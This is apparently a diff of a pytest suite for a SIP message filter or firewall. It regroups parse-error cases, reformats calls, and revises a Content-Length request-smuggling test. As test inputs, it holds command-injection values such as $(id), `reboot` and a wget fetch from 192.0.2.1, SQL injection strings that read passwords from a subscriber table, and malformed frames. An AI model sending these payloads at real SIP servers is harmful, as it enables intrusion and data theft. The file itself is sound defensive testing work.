@@ -36,14 +36,13 @@ def swapped(message: bytes, old: bytes, new: bytes) -> bytes:
 BASE = request("OPTIONS", call_id="base", via="Via: SIP/2.0/UDP 127.0.0.1:5060;branch=z9hG4bKbase;rport")
 
 PARSE_ERRORS = {
-    "no SIP at all": b"GET / HTTP/1.0\r\nHost: example.com\r\nUser-Agent: curl/7\r\n\r\n",
     "a first line without a version": swapped(BASE, b" SIP/2.0\r\n", b"\r\n"),
     "only text": b"x" * 200,
     "only NUL bytes": b"\0" * 64,
     "a broken topmost Via": swapped(BASE, b"Via: SIP/2.0/UDP 127.0.0.1:5060;", b"Via: SIP/2.0/;;;,"),
     "a topmost Via with a host that never ends": swapped(BASE, b"127.0.0.1:5060;", b"[::1;"),
     "a first header without a colon": swapped(BASE, b"\r\nVia", b"\r\nno colon in this line\r\nVia"),
-    "bytes that are not UTF-8 in the first line": b"\xff\xfe\x80" + BASE,
+    "bytes that are not UTF-8": b"\xff\xfe\x80\xff" * 20,
     "a status line with a word for a code": b"SIP/2.0 abc OK\r\n" + BASE.split(b"\r\n", 1)[1],
 }
 
@@ -59,6 +58,8 @@ def test_what_the_parser_refuses_is_recorded_and_never_answered(server: Server, 
 
 
 ODD = {
+    "HTTP": b"GET / HTTP/1.0\r\nHost: example.com\r\nUser-Agent: curl/7\r\n\r\n",
+    "bytes that are not UTF-8 in the method": b"\xff\xfe\x80" + BASE,
     "no Via": without("via", BASE),
     "no From": without("from", BASE),
     "no To": without("to", BASE),
@@ -128,7 +129,12 @@ def test_longer_than_the_policy_allows_is_refused(tmp_path_factory: pytest.TempP
 
 @pytest.mark.parametrize("transport", ["udp", "tcp"])
 def test_bytes_that_are_not_utf8_pass_in_a_name_and_are_recorded(server: Server, transport: str) -> None:
-    sent = request("OPTIONS", from_='"J\udce9r\udcf4me" <sip:j@example.com>;tag=1', call_id=f"latin1-{transport}", transport=transport.upper())
+    sent = request(
+        "OPTIONS",
+        from_='"J\udce9r\udcf4me" <sip:j@example.com>;tag=1',
+        call_id=f"latin1-{transport}",
+        transport=transport.upper(),
+    )
     assert b"J\xe9r\xf4me" in sent
     assert status(exchange(server, sent, source="127.1.4.1", transport=transport)) == 200
     record = server.record_of(f"latin1-{transport}")
@@ -138,7 +144,11 @@ def test_bytes_that_are_not_utf8_pass_in_a_name_and_are_recorded(server: Server,
 
 @pytest.mark.parametrize("transport", ["udp", "tcp"])
 def test_an_attack_beside_bytes_that_are_not_utf8_is_seen(server: Server, transport: str) -> None:
-    sent = invite(from_="\"\udcff\udcfe' or 1=1--\" <sip:j@example.com>;tag=1", call_id=f"hidden-{transport}", transport=transport.upper())
+    sent = invite(
+        from_='"\udcff\udcfe\' or 1=1--" <sip:j@example.com>;tag=1',
+        call_id=f"hidden-{transport}",
+        transport=transport.upper(),
+    )
     assert status(exchange(server, sent, source="127.1.4.2", transport=transport)) == 403
     record = server.record_of(f"hidden-{transport}")
     assert "sql-tautology" in record["rule"]["id"]
@@ -177,12 +187,15 @@ def test_an_attack_is_seen_in_every_spelling(server: Server, form: str) -> None:
     ("name", "header"),
     [
         ("second-via", "Via: SIP/2.0/UDP 127.0.0.9;branch=z9hG4bK1;x=$(id)"),
-        ("via-list", "Via: SIP/2.0/UDP 127.0.0.9;branch=z9hG4bK1, SIP/2.0/UDP 127.0.0.8;x=\"`reboot`\""),
-        ("second-contact", "Contact: <sip:a@127.0.0.1>\r\nContact: \"$(id)\" <sip:b@127.0.0.1>"),
+        ("via-list", 'Via: SIP/2.0/UDP 127.0.0.9;branch=z9hG4bK1, SIP/2.0/UDP 127.0.0.8;x="`reboot`"'),
+        ("second-contact", 'Contact: <sip:a@127.0.0.1>\r\nContact: "$(id)" <sip:b@127.0.0.1>'),
         ("contact-list", "m: <sip:a@127.0.0.1>, <sip:$(id)@127.0.0.1>"),
         ("subject", "s: ' union select password from subscriber--"),
         ("unknown", "X-Anything: ;wget http://192.0.2.1/x"),
-        ("authorization", 'Authorization: Digest username="x\' or 1=1--", realm="r", nonce="n", uri="sip:a", response="00"'),
+        (
+            "authorization",
+            'Authorization: Digest username="x\' or 1=1--", realm="r", nonce="n", uri="sip:a", response="00"',
+        ),
         ("pai", 'P-Asserted-Identity: "$(id)" <sip:a@example.com>'),
     ],
 )
@@ -202,16 +215,28 @@ def test_two_requests_in_one_datagram_are_one_message(server: Server) -> None:
 def test_smuggling_with_two_lengths_over_tcp_is_refused(server: Server) -> None:
     inner = request("REGISTER", call_id="smuggled", transport="TCP")
     sent = request(
-        "OPTIONS", call_id="smuggler", headers=("Content-Length: 0",), length=str(len(inner)), body=inner, transport="TCP"
+        "OPTIONS",
+        call_id="smuggler",
+        headers=("Content-Length: 0",),
+        length=str(len(inner)),
+        body=inner,
+        transport="TCP",
     )
-    answer = exchange(server, sent, source="127.1.6.2", transport="tcp")
-    assert status(answer) == 400
+    # The first value ends the outer request; the rest comes as a request of its own, and is judged as one.
+    exchange(server, sent, source="127.1.6.2", transport="tcp")
+    assert server.record_of("smuggled")["event"]["action"] == "allow"
+    assert server.record_of("smuggler")["event"]["action"] == "drop"
     assert "content-length-conflict" in server.record_of("smuggler")["rule"]["id"]
     server.assert_healthy()
 
 
 def test_many_broken_frames_over_tcp_leave_the_server_whole(server: Server) -> None:
-    for data in (b"\r\n\r\n" * 10, b"A" * 5000, b"INVITE sip:a SIP/2.0\r\nContent-Length: 99999999999\r\n\r\n", b"\0" * 100):
+    for data in (
+        b"\r\n\r\n" * 10,
+        b"A" * 5000,
+        b"INVITE sip:a SIP/2.0\r\nContent-Length: 99999999999\r\n\r\n",
+        b"\0" * 100,
+    ):
         exchange(server, data, source="127.1.6.3", transport="tcp", seconds=0.2)
     server.assert_healthy()
     assert status(exchange(server, invite(transport="TCP", body=SDP), transport="tcp", source="127.1.6.4")) == 200
